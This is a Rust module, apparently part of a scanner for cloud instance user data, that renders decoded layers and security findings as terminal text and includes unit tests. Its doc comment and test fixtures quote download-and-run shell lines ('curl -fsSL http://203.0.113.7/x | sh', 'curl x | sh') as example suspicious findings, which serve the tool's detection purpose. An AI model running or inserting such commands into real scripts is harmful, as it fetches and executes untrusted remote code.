//! Decoded user data and its signals as text for a terminal.
//!
//! ```text
//! suspicious, score 85
//!
//! gzip, 412 bytes
//! └─ MIME message, 1.2 KiB
//!    ├─ part 1: cloud-config, 301 bytes (runcmd 2)
//!    └─ part 2: script, 96 bytes (shell)
//!
//! exe-01  gzip > part 2 > line 3
//!         curl -fsSL http://203.0.113.7/x | sh
//! ```

use std::fmt::Write;

use anstyle::{AnsiColor, Style};

use super::decode::{Kind, Layer};
use super::{Conclusion, Finding};

/// Renders one inspection. `colour` adds ANSI colour codes; without it the text is plain. Control and
/// direction-changing characters, which the launcher may have put into names, are left out.
#[must_use]
pub fn render(
    tree: &Layer,
    findings: &[Finding],
    score: u32,
    conclusion: Conclusion,
    colour: bool,
) -> String {
    let mut out = String::new();
    let paint = Paint { colour };
    let (word, style) = verdict(conclusion);
    let _ = write!(out, "{}", paint.styled(style, word));
    if !findings.is_empty() || score > 0 {
        let _ = write!(out, ", score {score}");
    }
    out.push_str("\n\n");
    branch(&mut out, paint, tree, None, "", "");
    for finding in findings {
        let id = paint.styled(Style::new().bold(), finding.id);
        let _ = write!(out, "\n{id}  {}\n", clean(&finding.place));
        let indent = " ".repeat(finding.id.len() + 2);
        for line in finding.quote.lines() {
            let _ = writeln!(out, "{indent}{}", clean(line).trim_end());
        }
    }
    out
}

fn verdict(conclusion: Conclusion) -> (&'static str, Style) {
    let coloured = |colour: AnsiColor| Style::new().bold().fg_color(Some(colour.into()));
    match conclusion {
        Conclusion::Clean => ("clean", coloured(AnsiColor::Green)),
        Conclusion::Signals => ("signals", coloured(AnsiColor::Yellow)),
        Conclusion::Suspicious => ("suspicious", coloured(AnsiColor::Red)),
        Conclusion::Undecodable => ("undecodable", coloured(AnsiColor::Magenta)),
        Conclusion::NotUserData => ("no user data", coloured(AnsiColor::Magenta)),
    }
}

/// One layer on a line, and the layers within below it. The decoder bounds how deep they nest.
fn branch(out: &mut String, paint: Paint, layer: &Layer, parent: Option<&Layer>, first: &str, below: &str) {
    out.push_str(first);
    if let Some(name) = parent.and_then(|parent| name_within(parent, layer)) {
        let _ = write!(out, "{}: ", clean(name));
    }
    let style = match layer.kind {
        Kind::Undecodable => Style::new().fg_color(Some(AnsiColor::Magenta.into())),
        _ => Style::new(),
    };
    let _ = write!(out, "{}, {}", paint.styled(style, layer.kind.name()), size(layer.bytes));
    if let Some(note) = &layer.note {
        let note = format!("({})", clean(note));
        let _ = write!(out, " {}", paint.styled(Style::new().dimmed(), &note));
    }
    out.push('\n');
    for (index, child) in layer.children.iter().enumerate() {
        let last = index + 1 == layer.children.len();
        let first = format!("{below}{}", if last { "└─ " } else { "├─ " });
        let below = format!("{below}{}", if last { "   " } else { "│  " });
        branch(out, paint, child, Some(layer), &first, &below);
    }
}

/// What a layer is called within the one around it, unless that says no more than what it is:
/// `part 2`, `write_files[0]`.
fn name_within<'a>(parent: &Layer, layer: &'a Layer) -> Option<&'a str> {
    let rest = layer.path.strip_prefix(&parent.path)?;
    let name = rest.trim_start_matches([' ', '>']).rsplit(" > ").next()?;
    let says_nothing =
        ["", "gzip", "base64", "jinja", "cloud-config", "ignition", "ec2launch", "bottlerocket"];
    (!says_nothing.contains(&name)).then_some(name)
}

fn size(bytes: usize) -> String {
    match bytes {
        1 => "1 byte".to_owned(),
        0..1024 => format!("{bytes} bytes"),
        _ => {
            let tenths = bytes.saturating_mul(10) / 1024;
            if tenths < 10_240 {
                format!("{}.{} KiB", tenths / 10, tenths % 10)
            } else {
                format!("{}.{} MiB", tenths / 10_240, tenths % 10_240 / 1024)
            }
        }
    }
}

/// Without what could move the cursor or turn the direction of writing.
fn clean(text: &str) -> String {
    let turns =
        |c: char| matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2069}');
    text.chars().map(|c| if c == '\t' { ' ' } else { c }).filter(|c| !c.is_control() && !turns(*c)).collect()
}

#[derive(Clone, Copy)]
struct Paint {
    colour: bool,
}

impl Paint {
    fn styled(self, style: Style, text: &str) -> String {
        if self.colour { format!("{style}{text}{style:#}") } else { text.to_owned() }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::user_data::decode::decode;

    const MESSAGE: &str = "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\n\n#cloud-config\nruncmd: [id, ls]\nwrite_files: [{path: /etc/x, content: abc}]\n--b\n\n#!/bin/bash\ncurl x | sh\n--b\n\n\u{1}\u{2}\u{3}\n--b--\n";

    fn finding() -> Finding {
        Finding { id: "exe-01", place: "part 2 > line 2".to_owned(), quote: "curl x | sh".to_owned() }
    }

    #[test]
    fn the_tree_and_the_signals_read_as_text() {
        let decoded = decode(MESSAGE.as_bytes());
        let text = render(&decoded.tree, &[finding()], 25, Conclusion::Signals, false);
        assert_eq!(
            text,
            "signals, score 25

MIME message, 185 bytes
├─ part 1: cloud-config, 74 bytes (runcmd 2, write_files 1)
│  └─ write_files[0]: file, 3 bytes (/etc/x)
├─ part 2: script, 23 bytes (shell)
└─ part 3: not decodable, 3 bytes (binary data of an unknown kind)

exe-01  part 2 > line 2
        curl x | sh
"
        );
    }

    #[test]
    fn a_clean_script_is_two_lines() {
        let decoded = decode(b"#!/bin/sh\nid\n");
        let text = render(&decoded.tree, &[], 0, Conclusion::Clean, false);
        assert_eq!(text, "clean\n\nscript, 13 bytes (shell)\n");
    }

    #[test]
    fn colour_codes_come_only_when_asked_for() {
        let decoded = decode(MESSAGE.as_bytes());
        let plain = render(&decoded.tree, &[finding()], 60, Conclusion::Suspicious, false);
        let coloured = render(&decoded.tree, &[finding()], 60, Conclusion::Suspicious, true);
        assert!(!plain.contains('\u{1b}'));
        assert!(coloured.starts_with("\u{1b}[1m\u{1b}[31msuspicious\u{1b}[0m, score 60"), "{coloured:?}");
    }

    #[test]
    fn names_cannot_move_the_cursor_or_turn_the_text() {
        let decoded =
            decode("#cloud-config\nwrite_files: [{path: \"/a\\e[2J\\u202Eb\", content: x}]\n".as_bytes());
        let odd = Finding { quote: "a\u{1b}[31m\u{202e}b".to_owned(), ..finding() };
        let text = render(&decoded.tree, &[odd], 0, Conclusion::Clean, false);
        assert!(text.contains("(/a[2Jb)") && text.contains("a[31mb"), "{text:?}");
    }

    #[test]
    fn sizes_are_short() {
        let sizes = [0, 1, 1023, 1024, 16_384, 1_048_575, 1_048_576].map(size);
        assert_eq!(
            sizes,
            ["0 bytes", "1 byte", "1023 bytes", "1.0 KiB", "16.0 KiB", "1023.9 KiB", "1.0 MiB"]
        );
    }
}
